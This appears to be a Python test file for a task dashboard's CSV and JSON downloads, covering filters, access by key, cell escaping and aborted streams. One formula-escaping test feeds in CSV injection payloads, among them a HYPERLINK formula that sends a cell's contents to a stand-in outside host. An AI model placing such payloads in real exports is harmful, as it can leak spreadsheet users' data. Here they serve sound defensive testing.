"""What pages offer as files: the history of a task as JSON, lists as CSV."""

from __future__ import annotations

import csv
import json
import re
from typing import Any

import pytest

from stentor.surfaces.dashboard.pages import downloads
from tests.requirements import requirement
from tests.surfaces.dashboard.signed_in import Site


async def rows(site: Site, path: str, key: str = "ADMIN", **params: str) -> list[dict[str, str]]:
    answer = await (await site.browser(key)).get(path, params=params)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(answer.content.decode("utf-8-sig").split("\r\n")))


@pytest.fixture
def small_reads(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(downloads, "ROWS_PER_READ", 2)


@requirement("dashboard.downloads")
async def test_all_rows_of_the_list_with_its_filters_are_in_the_file(site: Site, small_reads: None) -> None:
    ann = await site.world.register("ann")
    ended = [await site.world.do(ann) for _ in range(3)]
    queued = [await site.world.submit(title="Grüße") for _ in range(2)]
    every = await rows(site, "/tasks.csv")
    assert [row["task_id"] for row in every] == [*reversed(queued), *reversed(ended)]
    assert (every[0]["title"], every[0]["completed_at"]) == ("Grüße", "")
    assert (every[-1]["status"], every[-1]["agent"], every[-1]["attempts"]) == ("completed", "ann", "1")
    assert 'href="/tasks.csv?status=queued" download' in await site.read("/tasks", status="queued")
    assert {row["task_id"] for row in await rows(site, "/tasks.csv", status="queued")} == set(queued)
    assert [row["task_id"] for row in await rows(site, "/tasks.csv", q=ended[1])] == [ended[1]]
    assert await rows(site, "/tasks.csv", key="OTHER") == []


@requirement("dashboard.downloads")
async def test_no_cell_of_a_file_is_a_formula(site: Site) -> None:
    await site.world.register("ann")
    titles = ['=HYPERLINK("http://x.example/?"&A1)', "+1", "-1", "@SUM(A1)", 'a "b", c\nd', "1=2"]
    for title in titles:
        await site.world.submit(title=title.replace("\n", " "))
    found = {row["title"] for row in await rows(site, "/tasks.csv")}
    assert found == {f"'{title}" for title in titles[:4]} | {'a "b", c d', "1=2"}


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_cell_is_a_formula_with_the_separator_of_another_country(start: str, separator: str) -> None:
    text = downloads.write_csv([[f"{start}1+1", f"x;{start}1+1", f"x\t{start}1+1", f'x;"{start}1+1', "2"]]).decode()
    for line in re.split(r"[\r\n]+", text):
        for cell in line.split(separator):
            assert not re.match('"*\\s*[=+\\-@\uff1d\uff0b\uff0d\uff20]', cell), text


def test_cells_are_written_so_that_they_are_read_as_they_were() -> None:
    text = downloads.write_csv([["\t=1", "\r=1", None, 0.00001, 2.5, -3, True, 'say "a, b"\r\n']]).decode()
    assert text == '\'\t\'=1,"\'\r\'=1",,0.00001,2.5,-3,true,"say ""a, b""\r\n"\r\n'


@requirement("dashboard.downloads")
async def test_a_wrong_filter_has_a_page_instead_of_a_file(site: Site) -> None:
    assert "status" in await site.read("/tasks.csv", 400, status="nothing")
    assert "from: must be a day" in await site.read("/models/calls.csv", 400, **{"from": "yesterday"})
    assert "Not found" in await site.read("/tasks/nothing/history.json", 404)


async def whole_input(site: Site, task_id: str) -> Any:
    return (await site.world.admin.get(f"/api/v1/tasks/{task_id}/input")).json()["input"]


async def history(site: Site, task_id: str, key: str = "ADMIN") -> dict[str, Any]:
    answer = await (await site.browser(key)).get(f"/tasks/{task_id}/history.json")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"] == f'attachment; filename="task-{task_id}.json"'
    found: dict[str, Any] = json.loads(answer.content)
    return found


@requirement("dashboard.downloads")
async def test_the_history_of_a_task_is_one_document(site: Site, small_reads: None) -> None:
    ann = await site.world.register("ann")
    task_id = await site.world.do(ann)
    await site.world.admin.post(f"/api/v1/tasks/{task_id}/grade", json={"grade": 0.5, "comment": "So so."})
    children = [await site.world.submit(metadata={"parent_task_id": task_id}) for _ in range(3)]
    assert f'href="/tasks/{task_id}/history.json" download' in await site.read(f"/tasks/{task_id}")
    found = await history(site, task_id)
    assert (found["task"]["task_id"], found["input"], found["status"]) == (
        task_id,
        await whole_input(site, task_id),
        "completed",
    )
    assert found["grade"]["comment"] == "So so."
    assert [task["task_id"] for task in found["subtasks"]] == children
    assert (found["steps"], found["model_calls"]) == ([], [])
    whole = (await site.world.admin.get(f"/api/v1/tasks/{task_id}/activity?limit=500")).json()["events"]
    assert found["events"] == whole
    assert len(whole) > 2
    await site.read(f"/tasks/{task_id}/history.json", 404, key="OTHER")


@requirement("dashboard.downloads")
async def test_a_history_has_the_values_of_steps_however_long(site: Site, small_reads: None) -> None:
    ann = await site.world.register("ann")
    task_id = await site.world.submit()
    claim = await site.world.claim(ann)
    values = ["x" * 100_000, None, 3, {"long": "y" * 5_000}]
    for n, value in enumerate(values):
        step = {"epoch": claim["epoch"], "key": f"a/{n}", "name": "look", "value": value}
        answer = await site.world.admin.post(f"/api/v1/tasks/{task_id}/steps", json=step)
        assert answer.status_code in (200, 201), answer.text
    assert [step["value"] for step in (await history(site, task_id))["steps"]] == values


@requirement("dashboard.downloads")
async def test_a_download_that_breaks_off_has_no_end_and_one_line_in_the_log(
    site: Site, small_reads: None, caplog: pytest.LogCaptureFixture
) -> None:
    await site.world.register()
    for _ in range(5):
        await site.world.submit()
    made = await site.world.admin.post("/api/v1/keys", json={"name": "dana", "role": "viewer"})
    browser = await site.browser_of(made.json()["key"])
    request = browser.build_request("GET", "/tasks.csv")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.4"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/tasks.csv",
        "raw_path": b"/tasks.csv",
        "root_path": "",
        "query_string": b"",
        "headers": [(name.lower(), value) for name, value in request.headers.raw],
        "server": ("127.0.0.1", 80),
        "client": ("127.0.0.1", 1),
    }
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)
        if sent[-1].get("body"):
            assert (await site.world.admin.post("/api/v1/keys/dana/revoke")).status_code == 200

    async def receive() -> Any:
        return {"type": "http.request", "body": b"", "more_body": False}

    transport: Any = browser._transport
    await transport.app(scope, receive, send)
    assert sent[0]["status"] == 200
    # Without an end the server closes the connection, so the browser does not take a part for the whole.
    assert all(message["more_body"] for message in sent[1:])
    lines = [(record.getMessage(), record.exc_info) for record in caplog.records if record.levelname != "INFO"]
    assert lines == [("dashboard: download aborted file=tasks.csv reason=Unknown API key.", None)]
